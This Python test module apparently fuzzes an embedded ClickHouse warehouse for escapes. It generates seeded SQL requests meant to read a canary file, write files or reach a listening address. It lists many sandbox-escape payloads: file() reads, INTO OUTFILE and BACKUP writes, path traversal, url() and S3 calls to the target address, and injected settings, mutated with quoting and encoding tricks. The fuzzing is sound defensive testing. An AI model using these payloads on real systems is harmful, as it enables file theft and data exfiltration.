"""Requests to the embedded warehouse that try to reach beyond it, made by chance from a seed.

They grow from three roots: statements that people send, attacks (those of `test_embedded_refusals` and what fuzzing has
found), and whatever names the engine itself has: every function, table function, engine, format and setting that holds
text is tried with a path and an address. Each is then bent at the level of statements, tokens, bytes and transport.
"""

import random
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field

from clickhouse_connect.driver.client import Client

from alphaforge_assets_tests.test_embedded_refusals import ATTACKS

TOKEN = re.compile(r"'(?:[^'\\]|\\.|'')*'|\w+|\s+|.", re.DOTALL)
STRING = re.compile(r"'((?:[^'\\]|\\.|'')*)'")


@dataclass(frozen=True)
class Target:
    """What lies outside: a file that holds the canary, its folder, and an address that listens."""

    canary: str
    folder: str
    address: str
    database: str


@dataclass(frozen=True)
class Names:
    """What the engine has by name."""

    functions: list[str]
    tables: list[str]  # table functions, table engines and database engines
    formats: list[str]
    settings: list[str]  # that hold text

    @classmethod
    def of(cls, client: Client) -> "Names":
        def column(sql: str) -> list[str]:
            return sorted({row[0] for row in client.query(sql).result_rows})

        return cls(
            column("SELECT name FROM system.functions WHERE NOT match(name, '^(sleep|throw|fuzz)')"),
            column(
                "SELECT name FROM system.table_functions UNION ALL SELECT name FROM system.table_engines"
                " UNION ALL SELECT name FROM system.database_engines"
            ),
            column("SELECT name FROM system.formats"),
            column("SELECT name FROM system.settings WHERE type IN ('String', 'URI', 'Map')"),
        )


@dataclass(frozen=True)
class Shot:
    """One request: the statement or its first part, what stands in the URL, and external tables as (name, data)."""

    sql: bytes
    root: str
    url: dict[str, str] = field(default_factory=dict)
    method: str = "POST"
    tables: tuple[tuple[str, bytes], ...] = ()


LEGIT = (
    "SELECT 1",
    "SELECT a, count() FROM {db}.t WHERE a != 'x' GROUP BY a ORDER BY a LIMIT 5",
    "SELECT * FROM numbers(3) AS n JOIN system.one AS o ON n.number = o.dummy",
    "WITH 1 AS x SELECT x, toString(x) FORMAT JSONEachRow",
    "SELECT * FROM values('a Int8, b String', (1, 'x')) SETTINGS max_threads = 1",
    "SELECT arrayMap(x -> x || 'y', ['{path}']) FORMAT CSV",
    "INSERT INTO {db}.t VALUES ('{path}'), (upper('b'))",
    "INSERT INTO {db}.t (a) FORMAT CSV\n'{path}'\n",
    "INSERT INTO {db}.t SELECT toString(number) FROM numbers(3)",
    "CREATE TABLE IF NOT EXISTS {db}.n (a Int8, b String DEFAULT 'x') ENGINE = MergeTree ORDER BY a",
    "ALTER TABLE {db}.t MODIFY COLUMN a String DEFAULT '{path}'",
    "SHOW TABLES FROM {db}",
    "DESCRIBE TABLE {db}.t",
    "EXPLAIN SELECT * FROM {db}.t",
    "SET max_threads = 1",
    "OPTIMIZE TABLE {db}.t FINAL",
)
FOUND = (
    "SELECT * APPLY file FROM (SELECT '{path}' AS a)",
    "SELECT COLUMNS('a') APPLY(toString) APPLY(`file`) FROM (SELECT '{path}' AS a)",
    "SELECT arrayMap(file, ['{path}'])",
    "SELECT arrayFold(file, ['{path}'], '')",
    "SELECT 1 SETTINGS select = 'file(''{path}'')'",
    "SELECT 1 AS a SETTINGS filter = 'throwIf(1, file(''{path}'')) = 0'",
    "INSERT INTO {db}.t FORMAT values (file('{path}'))",
    "INSERT INTO {db}.t SETTINGS input_format_values_interpret_expressions = 1 FORMAT Values (file('{path}'))",
    "INSERT INTO {db}.t SETTINGS input_format_null_as_default = 0 FORMAT Values (concat(file('{path}'), 'x'))",
    "INSERT INTO {db}.t SETTINGS input_format = 'Values' FORMAT CSV\n(file('{path}'))",
    "INSERT INTO {db}.i SETTINGS input_format_allow_errors_num = 9,"
    " input_format_record_errors_file_path = '{new}' FORMAT CSV\nabc\n",
    "INSERT INTO {db}.t SETTINGS format_avro_schema_registry_url = '{url}' FORMAT AvroConfluent\n\0\0\0\0\1abc",
    "CREATE TABLE {db}.q (query String) ENGINE = QueryRunner",
    "CREATE DATABASE q ENGINE = Filesystem",
    "SELECT * FROM q.`{path}`",
    "INSERT INTO FUNCTION file('{new}') SELECT 1",
    "SELECT * FROM url('{url}', 'CSV', 'a String', headers('x'='y'))",
    "SELECT * FROM remote('{address}', 'system', 'one')",
    "CREATE TABLE {db}.u (a Int8) ENGINE = URL('{url}', CSV)",
    "CREATE DATABASE u ENGINE = MySQL('{address}', 'd', 'u', 'p')",
    "CREATE DICTIONARY {db}.u (a UInt64, b String) PRIMARY KEY a SOURCE(HTTP(URL '{url}' FORMAT TSV))"
    " LAYOUT(FLAT()) LIFETIME(0)",
    "BACKUP DATABASE {db} TO File('{new}')",
    "BACKUP TABLE {db}.t TO S3('{url}', 'k', 's')",
    "RESTORE TABLE {db}.t FROM S3('{url}')",
    "ALTER TABLE {db}.t FREEZE WITH NAME '../../../../../../{new}'",
    "ALTER TABLE {db}.t FETCH PARTITION tuple() FROM '{path}'",
    "SELECT a FROM {db}.t INTO OUTFILE '{new}' TRUNCATE FORMAT CSV",
    "INSERT INTO {db}.t FROM INFILE '{path}' COMPRESSION 'none' FORMAT LineAsString",
    "SELECT 1 FORMAT Template SETTINGS format_template_row = '{path}'",
    "SELECT * FROM {db}.t SETTINGS format_schema = '{path}:Message', format_schema_source = 'file' FORMAT Protobuf",
    "SELECT catboostEvaluate('{path}', 1)",
    "SELECT toTimeZone(now(), '{path}')",
    "SELECT aiGenerate('{url}', 'x')",
    "SELECT dictGet('{path}', 'a', 1)",
)
VALUES = (
    "{path}",
    "{relative}",
    "../outside/canary.txt",
    "file://{path}",
    "{url}",
    "{address}",
    "{new}",
    "file(''{path}'')",
)
FUNCTION_SHAPES = (
    "SELECT {name}('{value}')",
    "SELECT {name}('{value}', 'a')",
    "SELECT {name}('a', '{value}')",
    "SELECT {name}(1, '{value}')",
    "SELECT {name}('{value}', 1, 'a')",
    "SELECT {name}(toDateTime(0), '{value}')",
    "SELECT {name}(['{value}'])",
    "SELECT arrayMap({name}, ['{value}'])",
    "SELECT * APPLY {name} FROM (SELECT '{value}' AS a)",
)
TABLE_SHAPES = (
    "SELECT * FROM {name}('{value}')",
    "SELECT * FROM {name}('{value}', 'LineAsString')",
    "SELECT * FROM {name}('{value}', CSV, 'a String')",
    "SELECT * FROM {name}('{value}', 'system', 'one')",
    "SELECT * FROM {name}('{value}', 'd', 't', 'u', 'p')",
    "SELECT * FROM {name}(default, '{value}', CSV, 'a String')",
    "DESCRIBE TABLE {name}('{value}')",
    "INSERT INTO FUNCTION {name}('{value}', CSV, 'a Int8') SELECT 1",
    "CREATE TABLE {db}.u AS {name}('{value}')",
    "CREATE TABLE {db}.u (a String) ENGINE = {name}('{value}')",
    "CREATE TABLE {db}.u (a String) ENGINE = {name}(CSV, '{value}')",
    "CREATE TABLE {db}.u (a String) ENGINE = {name} ORDER BY a SETTINGS disk = '{value}'",
    "CREATE TABLE {db}.u (query String) ENGINE {name}",
    "CREATE DATABASE u ENGINE = {name}('{value}')",
    "CREATE DATABASE u ENGINE = {name}",
    "CREATE DATABASE u ENGINE = {name}('{value}', 'd', 'u', 'p')",
    "CREATE DICTIONARY {db}.u (a UInt64, b String) PRIMARY KEY a SOURCE({name}(PATH '{value}' FORMAT TSV))"
    " LAYOUT(FLAT()) LIFETIME(0)",
    "BACKUP TABLE {db}.t TO {name}('{value}')",
)
FORMAT_SHAPES = (
    "SELECT * FROM {db}.t FORMAT {name}",
    "SELECT '{value}' AS a FORMAT {name} SETTINGS format_schema = '{value}'",
    "INSERT INTO {db}.t FORMAT {name} {value}",
    "INSERT INTO {db}.t SETTINGS format_schema = '{value}' FORMAT {name}\n('{value}')",
    "INSERT INTO {db}.t SETTINGS input_format_values_interpret_expressions = 1 FORMAT {name}\n(file('{path}'))",
    "SELECT * FROM format({name}, 'a String', '{value}')",
    "SELECT * FROM format({name}, '{value}')",
)
SETTING_SHAPES = (
    "SELECT 1 AS a SETTINGS {name} = '{value}'",
    "SELECT a FROM {db}.t FORMAT Template SETTINGS {name} = '{value}'",
    "SELECT a FROM {db}.t FORMAT AvroConfluent SETTINGS {name} = '{value}'",
    "INSERT INTO {db}.i SETTINGS input_format_allow_errors_num = 9, {name} = '{value}' FORMAT CSV\nabc\n",
    "INSERT INTO {db}.t SETTINGS {name} = '{value}' FORMAT AvroConfluent\n\0\0\0\0\1abc",
    "CREATE TABLE {db}.u (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS {name} = '{value}'",
    "SET {name} = '{value}'",
)
BETWEEN = (
    " ",
    "\t",
    "\n",
    "\r\n",
    "\f",
    "\v",
    "\u00a0",
    "\u2003",
    "\u200b",
    "\ufeff",
    "/**/",
    "/* /* ; */ */",
    "--\n",
    "# \n",
    "#!\n",
    "\0",
    "",
)
WORDS = (
    *("file", "FILE", "OUTFILE", "INFILE", "INTO", "FROM", "FORMAT", "Values", "ENGINE", "=", "SETTINGS", "SELECT"),
    *(
        "INSERT",
        "FUNCTION",
        "TABLE",
        "APPLY",
        "(",
        ")",
        ",",
        ";",
        "'",
        '"',
        "`",
        "\\",
        "$x$",
        "/*",
        "*/",
        "--",
        "{",
        "}",
    ),
    *("'{path}'", "'{new}'", "'{url}'", "AS", "->", "|>", "PARALLEL WITH", "UNION ALL", "EXPLAIN", "url", "disk", "1"),
)
WRAPS = (
    "EXPLAIN {sql}",
    "EXPLAIN ESTIMATE {sql}",
    "DESCRIBE ({sql})",
    "SELECT * FROM ({sql})",
    "SELECT * FROM view({sql})",
    "SELECT * FROM viewExplain('EXPLAIN', '', ({sql}))",
    "WITH x AS ({sql}) SELECT * FROM x",
    "SELECT ({sql})",
    "SELECT 1 IN ({sql})",
    "INSERT INTO {db}.t {sql}",
    "INSERT INTO FUNCTION null('a String') {sql}",
    "CREATE VIEW {db}.v AS {sql}",
    "CREATE MATERIALIZED VIEW {db}.m REFRESH EVERY 1 HOUR ENGINE = Memory AS {sql}",
    "CREATE TABLE {db}.w ENGINE = Memory AS {sql}",
    "SELECT * FROM merge('{db}', '.*') UNION ALL {sql}",
    "{sql} INTO OUTFILE '{new}'",
    "{sql} FORMAT LineAsString",
    "{sql} SETTINGS readonly = 0",
    "SELECT 1; {sql}",
    "SELECT 1 PARALLEL WITH {sql}",
    "{sql};",
    "{sql} -- ",
    "/* {sql} */ {sql}",
    "SELECT $x$ ' $x$; {sql}",
    "SELECT '\\'; {sql}",
)


def shots(seed: int, count: int, names: Names, target: Target) -> Iterator[Shot]:
    """`count` requests. The same for the same seed, engine and target."""
    chance = random.Random(seed)  # noqa: S311 - requests to try, no secret
    for n in range(count):
        root, sql = _rooted(chance, names)
        for _ in range(chance.choice((0, 0, 1, 1, 2, 4))):
            sql = chance.choice(BENDS)(sql, chance)
        yield _sent(_placed(sql, n, chance, target), root, chance, names, target, n)


def _rooted(chance: random.Random, names: Names) -> tuple[str, str]:
    def shaped(root: str, all_of: Sequence[str], shapes: Sequence[str]) -> tuple[str, str]:
        shape = chance.choice(shapes).replace("{name}", chance.choice(all_of))
        return root, shape.replace("{value}", chance.choice(VALUES))

    return chance.choices(
        (
            lambda: ("people", chance.choice(LEGIT)),
            lambda: ("attacks", _attack(chance.choice(list(ATTACKS.values())))),
            lambda: ("found", chance.choice(FOUND)),
            lambda: shaped("functions", names.functions, FUNCTION_SHAPES),
            lambda: shaped("tables", names.tables, TABLE_SHAPES),
            lambda: shaped("formats", names.formats, FORMAT_SHAPES),
            lambda: shaped("settings", names.settings, SETTING_SHAPES),
        ),
        weights=(10, 20, 20, 20, 15, 7, 8),
    )[0]()


def _attack(text: str) -> str:
    return text.format(db="{db}", secret="{path}", target="{new}")


def _placed(sql: str, n: int, chance: random.Random, target: Target) -> str:
    """`sql` with the target's names in the placeholders. A new file and an address say which shot it was."""
    relative = chance.choice(("canary.txt", "./canary.txt", "*.txt", "can{a,b}ry.txt", "../" * 12 + target.canary[1:]))
    for mark, text in (
        ("{relative}", relative),
        ("{path}", target.canary),
        ("{new}", f"{target.folder}/new-{n}"),
        ("{url}", f"http://{target.address}/shot-{n}"),
        ("{address}", target.address),
        ("{db}", target.database),
    ):
        sql = sql.replace(mark, text)
    return sql


def _wrap(sql: str, chance: random.Random) -> str:
    return chance.choice(WRAPS).replace("{sql}", sql)


def _splice(sql: str, chance: random.Random) -> str:
    other = chance.choice((*LEGIT, *FOUND))
    tokens, others = TOKEN.findall(sql), TOKEN.findall(other)
    return "".join(tokens[: chance.randint(0, len(tokens))] + others[chance.randint(0, len(others)) :])


def _at_token(change: Callable[[str, random.Random], str]) -> Callable[[str, random.Random], str]:
    def bend(sql: str, chance: random.Random) -> str:
        tokens = TOKEN.findall(sql)
        if not tokens:
            return sql
        n = chance.randrange(len(tokens))
        tokens[n] = change(tokens[n], chance)
        return "".join(tokens)

    return bend


def _everywhere(change: Callable[[str, random.Random], str]) -> Callable[[str, random.Random], str]:
    return lambda sql, chance: "".join(change(token, chance) for token in TOKEN.findall(sql))


def _quoted(token: str, chance: random.Random) -> str:
    if not token.isidentifier():
        return token
    if chance.random() < 0.3:
        n = chance.randrange(len(token))
        token = f"{token[:n]}\\x{ord(token[n]) & 255:02x}{token[n + 1 :]}"
    return chance.choice(("`{}`", '"{}"', "“{}”", "`{}\\``", "[{}]")).format(token)


def _respelled(token: str, chance: random.Random) -> str:
    """A string literal said another way: escaped, put together, a heredoc, computed, typographic."""
    found = STRING.fullmatch(token)
    if not found or not found.group(1):
        return token
    text = found.group(1)
    return chance.choice(
        (
            "'" + "".join(f"\\x{byte:02x}" for byte in text.encode()) + "'",
            f"concat('{text[:2]}', '{text[2:]}')",
            f"$q${text}$q$",
            f"unhex('{text.encode().hex()}')",
            f"‘{text}’",
            f"{{p:String}}/*{text}*/",
            f"materialize('{text}')",
            f"identity('{text}')",
            f"(SELECT '{text}')",
            f"x'{text.encode().hex()}'",
        )
    )


BENDS: tuple[Callable[[str, random.Random], str], ...] = (
    _wrap,
    _wrap,
    _splice,
    _at_token(lambda token, chance: ""),
    _at_token(lambda token, chance: token * 2),
    _at_token(lambda token, chance: chance.choice(WORDS)),
    _at_token(lambda token, chance: token + chance.choice(WORDS)),
    _at_token(lambda token, chance: token + chance.choice(BETWEEN)),
    _at_token(_quoted),
    _everywhere(lambda token, chance: chance.choice(BETWEEN) if token.isspace() else token),
    _everywhere(lambda token, chance: token.swapcase() if token.isidentifier() and chance.random() < 0.5 else token),
    _everywhere(lambda token, chance: _quoted(token, chance) if chance.random() < 0.1 else token),
    _everywhere(lambda token, chance: _respelled(token, chance) if chance.random() < 0.7 else token),
)


def _bytes(sql: str, chance: random.Random) -> bytes:
    """The statement on the wire: mostly UTF-8, now and then another encoding or with bytes changed."""
    data = sql.encode()
    kind = chance.random()
    if kind < 0.8 or not data:
        return data
    n = chance.randrange(len(data))
    return chance.choice(
        (
            lambda: data[:n] + bytes([data[n] ^ 1 << chance.randrange(8)]) + data[n + 1 :],
            lambda: data[:n] + bytes([chance.randrange(256)]) + data[n:],
            lambda: data[:n] + data[n + 1 :],
            lambda: data[:n],
            lambda: b"\xef\xbb\xbf" + data,
            lambda: sql.encode("utf-16"),
            lambda: sql.encode("latin-1", "replace"),
            lambda: data.replace(b"'", b"\xc0\xa7"),
            lambda: data.replace(b" ", b"\xff "),
        )
    )()


def _sent(sql: str, root: str, chance: random.Random, names: Names, target: Target, n: int) -> Shot:
    """The statement by one of the ways a request may bring it."""
    data, new, path = _bytes(sql, chance), f"{target.folder}/new-{n}", target.canary
    url = {"param_p": path}
    kind = chance.random()
    if kind < 0.55:
        return Shot(data, root, url)
    value = _placed(chance.choice(VALUES).replace("''", "'"), n, chance, target)
    if kind < 0.65:
        return Shot(b"", root, url | {"query": data.decode("utf-8", "replace")}, chance.choice(("GET", "POST")))
    if kind < 0.72:
        head, _, tail = data.partition(b"\n")
        return Shot(tail, root, url | {"query": head.decode("utf-8", "replace")})
    if kind < 0.79:
        return Shot(data, root, url | {chance.choice(names.settings): value})
    if kind < 0.86:
        whole = (f"; SELECT 1 INTO OUTFILE '{new}'", f"\n; SELECT file('{path}') INTO OUTFILE '{new}' FORMAT CSV")
        endings = (*whole, f" SETTINGS format_schema = '{path}'", f"\nINTO OUTFILE '{new}'", "")
        format = chance.choice(("JSON", "JSONCompact", "Parquet", chance.choice(names.formats)))
        asked = chance.choice((data, b"SELECT 1"))
        return Shot(asked, root, url | {"default_format": format + chance.choice(endings)})
    if kind < 0.9:
        return Shot(data, root, url | {"database": value, "query_id": value, "log_comment": value})
    if kind < 0.94:
        return Shot(data, root, url | {"session_id": f"s{n % 5}"})
    if kind < 0.96:
        return Shot(data.replace(path.encode(), b"{p:String}"), root, url | {"wait_end_of_query": "1"})
    structure = chance.choice(
        ("a String", f"a String DEFAULT file('{path}')", f"a String) ENGINE = File(CSV, '{path}'")
    )
    content = chance.choice((f"(file('{path}'))", path, f"{path}\n")).encode()
    external = {"e_structure": structure, "e_format": chance.choice(("Values", "values", "CSV", *names.formats))}
    return Shot(b"", root, url | external | {"query": "SELECT * FROM e"}, tables=(("e", content),))
